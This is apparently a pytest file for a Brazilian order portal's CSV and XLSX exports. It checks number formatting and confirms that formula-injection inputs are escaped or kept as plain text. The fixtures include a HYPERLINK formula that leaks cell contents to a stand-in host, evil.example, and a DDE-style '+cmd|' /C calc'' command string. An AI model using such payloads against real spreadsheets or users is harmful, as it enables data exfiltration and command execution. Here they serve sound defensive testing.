"""CSV and XLSX read back as a spreadsheet program reads them."""

import csv
import io
from datetime import datetime

import openpyxl

from portal.documents.cells import safe_text
from portal.documents.service import order_document
from portal.documents.tables import MONEY_FORMAT

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Clique")'


def _evil_descriptions(n: int) -> str:
    return {1: EVIL, 2: "@SUM(1+2)", 3: "+1+2"}.get(n, f"Produto número {n}")


def _rows(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel opens the accents right
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))


def test_the_csv_has_bom_semicolons_brazilian_numbers_and_no_live_formula(app, order_of, load):
    order_id = order_of(4, description=_evil_descriptions)
    with app.app_context():
        document = order_document(load(order_id), "csv")
    assert document.mimetype == "text/csv; charset=utf-8"
    assert document.filename == "pedido-000001.csv"
    rows = _rows(document.body)
    facts = {row[0]: row[1] for row in rows if len(row) == 2}
    assert facts["Pedido"] == "#000001"
    assert facts["Cliente"] == "Maria da Silva"
    assert facts["CPF"] == "529.982.247-25"
    assert facts["Telefone"] == "(11) 98765-4321"
    assert facts["Situação"] == "Pago"
    assert facts["Forma de Pagamento"] == "Boleto"
    assert facts["Total do pedido"] == "4.948,24"
    header = rows.index(["Código", "Descrição", "Quantidade", "Preço unit.", "Desconto", "Total"])
    items = rows[header + 1 : header + 5]
    assert items[0] == ["SKU-0001", "'" + EVIL, "2", "617,28", "0,00", "1.234,56"]
    assert items[1][1] == "'@SUM(1+2)"
    assert items[2][1] == "'+1+2"
    assert items[3][1] == "Produto número 4"


def test_phones_and_signed_numbers_stay_readable_other_formula_starts_are_quoted():
    assert safe_text("+55 11 91234-5678") == "+55 11 91234-5678"
    assert safe_text("-12,50") == "-12,50"
    assert safe_text("(11) 98765-4321") == "(11) 98765-4321"
    for text in ("=1+2", "+1+2", "-2+3", "@SUM(A1)", "\tcmd", "\r=1", "-A1", "+cmd|' /C calc'!A0"):
        assert safe_text(text) == "'" + text
    assert safe_text("Camiseta = azul") == "Camiseta = azul"
    assert safe_text(None) == ""


def test_the_xlsx_keeps_text_as_text_and_numbers_as_numbers(app, order_of, load):
    order_id = order_of(4, description=_evil_descriptions)
    with app.app_context():
        document = order_document(load(order_id), "xlsx")
    assert document.filename == "pedido-000001.xlsx"
    assert document.mimetype.startswith("application/vnd.openxmlformats")
    sheet = openpyxl.load_workbook(io.BytesIO(document.body)).active
    cells = {row[0].value: row for row in sheet.iter_rows() if row[0].value}
    assert cells["Pedido"][1].value == "#000001"
    assert cells["CPF"][1].value == "529.982.247-25"
    assert isinstance(cells["Criação"][1].value, datetime)
    first = cells["SKU-0001"]
    assert first[1].value == EVIL and first[1].data_type == "s"  # text, never a formula
    assert cells["SKU-0002"][1].data_type == "s"
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert first[2].value == 2 and first[2].data_type == "n"
    assert first[5].value == 1234.56 and first[5].number_format == MONEY_FORMAT
    total = cells["Total do pedido"][5]
    assert total.value == 4948.24 and total.data_type == "n"
